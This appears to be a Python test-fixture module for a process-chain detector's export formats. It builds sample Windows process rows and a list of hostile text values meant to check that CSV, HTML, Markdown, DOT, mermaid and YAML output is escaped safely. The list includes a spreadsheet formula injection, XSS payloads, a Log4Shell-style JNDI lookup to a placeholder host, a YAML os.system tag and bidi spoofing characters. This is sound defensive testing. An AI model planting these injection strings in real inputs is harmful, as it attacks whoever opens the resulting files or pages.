"""Processes to hand over, and texts that attack whoever reads the result."""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from dataclasses import fields
from itertools import pairwise
from typing import Any

from engine.handover.format import Needs
from engine.handover.material import About, DrawnIncident, Handed, Started
from engine.handover.pictures.forest import DrawnNode
from engine.handover.registry import find
from engine.handover.rows import ExportRow

ABOUT = About("case", "0.1.0", "detector-1", 2)
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1)\t+1;=2",
    "\x1b[31mred\x1b[0m\x9b5m\x00\x07",
    "bad \udcff bytes, \ud800 alone",
    "\u202eexe.gpj\u2066\u200b",
    "quotes \"' and\nnew\r\nlines\t,;",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "--><svg/onload=alert(1)>]]>&lt;&#x27;",
    "[link](javascript:alert(1)) ![i](http://x.example/i.png) `code` ```\n# Heading\n| a | b |",
    '"]; evil [label="x" URL="javascript:1"]; \\N\\G\\l',
    'a"]\n  click p1 "javascript:alert(1)"\n%%{init: {}}%% #quot; end subgraph',
    "key: value\n- item # comment\n'single' \"double\" &anchor *alias !!python/object:os.system {a: b}",
    "* ? \\* \\\\? \\",
    "{{7*7}} ${jndi:ldap://x.example/a} %n%s",
    "😀 e\u0301" + "\u0301" * 9,
    "x" * 5_000,
    "",
)
"""Formulas, control characters, invalid UTF-8, bidi, markup of HTML, SVG, Markdown, DOT, mermaid, YAML, wildcards, templates."""


def row(number: int = 1, **more: Any) -> ExportRow:
    """Process `number`, a minute after the one before."""
    plain: dict[str, Any] = {field.name: "" for field in fields(ExportRow)}
    plain |= {
        "case": "case", "finding": 1, "chain_id": "ab" * 16, "score": 2.5, "rank": 1, "host": "WEB01",
        "time": f"2026-03-04T09:{number % 60:02}:00.250000Z", "pid": 1000 + number, "process_guid": f"guid-{number}",
        "image": "C:\\Windows\\System32\\cmd.exe", "command_line": f"cmd.exe /c whoami {number}", "user": "CORP\\ann",
        "chain": ("c:\\inetpub\\w3wp.exe", "c:\\windows\\system32\\cmd.exe"), "step_errors": (0.1, 0.4), "worst_step": 2,
        "expected": (), "chain_count": 1, "host_count": 1, "source_file": "logs/a.json", "record_id": str(number),
        "model_id": "detector-1", "finding_rank": 1, "finding_score": 2.5, "members": 1, "reason": ("odd",), "learnt_rank": None,
        "malicious_probability": None, "process": f"P{number}11", "incident": "F1/1", "variant": "0" * 16,
        "parent_image": "C:\\inetpub\\w3wp.exe", "parent_pid": 4, "link": "guid", "link_confidence": 1.0, "kind": "sysmon1",
        "position": number,
    }  # fmt: skip
    return ExportRow(**(plain | more))


def hostile_rows() -> list[ExportRow]:
    """One for each text, which stands wherever a log or a person can put one."""
    return [
        row(
            number, host=text, image=text, command_line=text, user=text, parent_image=text, parent_command_line=text, note=text,
            labelled_by=text, source_file=text, record_id=text, process_guid=text, parent_guid=text, hashes=text, integrity=text,
            logon_id=text, working_directory=text, original_file_name=text, reason=(text,), chain=(text,), expected=(text,),
            verdict="malicious", labelled_at="2026-03-05T10:00:00.000000Z", case=text, kind=text,
        )
        for number, text in enumerate(HOSTILE, start=1)
    ]  # fmt: skip


def incident(rows: Sequence[ExportRow], name: str = "F1/1", **more: Any) -> DrawnIncident:
    """All of the rows below one another."""
    nodes = [
        DrawnNode(
            place, one.image, pid=one.pid, number=one.process, time=one.time, command_line=one.command_line, user=one.user,
            score=one.score, flagged=True, verdict=one.verdict, odd=True, method="guid",
        )
        for place, one in enumerate(rows, start=1)
    ]  # fmt: skip
    for above, below in pairwise(nodes):
        above.children.append(below)
    values: dict[str, Any] = {"host": rows[0].host, "verdict": "malicious", "odd": frozenset(one.process for one in rows)}
    return DrawnIncident(name=name, roots=nodes[:1], rows=tuple(rows), **(values | more))


def written(form: str, rows: Sequence[ExportRow], *, incidents: Iterable[DrawnIncident] | None = None, **more: Any) -> str:
    """What a format makes of rows, or of one incident of all of them."""
    return told(form, rows, incidents=incidents, **more)[0]


def told(
    form: str,
    rows: Sequence[ExportRow],
    *,
    incidents: Iterable[DrawnIncident] | None = None,
    case: Sequence[Started] = (),
    **more: Any,
) -> tuple[str, int, list[str]]:
    """The same with the number of what was written, and what was said of it."""
    one = find(form)
    handed = Handed(ABOUT, case=lambda: iter(case), **more)
    if one.needs is Needs.PROCESSES:
        handed.rows = rows
    else:
        handed.incidents = [incident(rows)] if incidents is None else incidents
    sink = io.StringIO(newline="")
    count = one.write(handed, sink)
    return sink.getvalue(), count, handed.said
